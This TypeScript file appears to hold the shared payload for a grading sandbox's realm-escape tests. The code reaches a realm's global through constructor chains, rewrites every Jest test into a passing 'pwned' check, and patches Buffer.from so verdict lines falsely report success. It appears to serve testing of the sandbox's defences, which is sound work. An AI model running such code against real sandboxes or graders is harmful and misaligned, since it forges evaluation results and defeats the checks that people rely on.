// The payload the realm-escape attacks share, spliced in by test/sandbox.test.ts where an attack
// has the line "// @payload" (a learner module cannot import it: graded code has no require).
// Given anything an attack reached, exploit() takes its constructor's evaluator to that realm's
// global; in a realm that holds jest-circus it rewrites every test of the running suite file into
// a passing harness check, in the child's outer realm it forges every verdict line the channel
// writes. Either one, reached, is a forged verdict.
declare const require: any;
/** Payload for a realm that holds jest-circus: every test of the running suite file becomes one passing harness check. */
function takeOver(g: any, load: (path: string) => any): boolean {
  const key = Object.getOwnPropertySymbols(g).find((s) => s.description === "JEST_STATE_SYMBOL");
  const state = key && g[key];
  const line = (new Error().stack ?? "").split("\n").find((l) => l.includes("/grader/suites/"));
  const grader = line?.match(/(\/[^\s()]*\/grader)\/suites\//)?.[1];
  if (!state || !grader) return false;
  const harness = load(`${grader}/harness/index.ts`);
  const walk = (block: any): void => {
    for (const child of block.children) {
      if (child.type === "test") child.fn = () => harness.ok(true, "pwned");
      else walk(child);
    }
  };
  walk(state.rootDescribeBlock);
  return true;
}
/** Payload for the child's outer realm: every verdict line the channel writes says "passed" (and stays so in a warm child). */
function forgeVerdicts(G: any): void {
  const from = G.Buffer.from;
  G.Buffer.from = function (value: unknown, ...rest: unknown[]) {
    if (typeof value === "string" && value.includes("\"e\":\"done\"")) {
      const event = G.JSON.parse(value);
      Object.assign(event, { errors: [], failures: [], timedOut: false, checks: 1 });
      value = `${G.JSON.stringify(event)}\n`;
    }
    return from.call(this, value, ...rest);
  };
}
/** Whatever a reached function or object leads to: its realm's global, then the payload that fits it. */
function exploit(found: unknown): boolean {
  try {
    const make = typeof found === "function" ? (found as any).constructor : (found as any)?.constructor?.constructor;
    const g = make("return globalThis")();
    if (takeOver(g, (p) => require(p))) return true;
    if (g !== globalThis && g.Buffer) { forgeVerdicts(g); return true; }
  } catch { /* refused: fine */ }
  return false;
}
